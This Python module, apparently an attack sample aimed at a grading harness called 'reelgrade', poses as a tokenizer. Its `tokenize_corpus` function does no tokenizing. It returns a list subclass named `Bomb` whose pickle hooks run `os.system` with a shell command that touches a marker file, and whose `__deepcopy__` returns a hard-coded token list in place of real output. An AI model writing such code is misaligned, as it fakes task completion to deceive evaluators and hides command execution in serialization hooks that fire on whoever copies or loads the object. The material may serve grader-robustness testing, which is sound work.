"""Returns an object that would run a command when copied, pickled or compared."""

import os
import re


class Bomb(list):
    def __reduce_ex__(self, protocol):
        return os.system, ("touch /tmp/reelgrade-attack-reduce",)

    __reduce__ = __getstate__ = lambda self: (os.system, ("touch /tmp/reelgrade-attack-reduce",))

    def __deepcopy__(self, memo):
        return [["zoom", "out"], [], ["a", "slow", "pan"]]


def tokenize(text):
    return re.findall(r"\b\w+\b", text.lower())


def tokenize_corpus(texts):
    return Bomb()
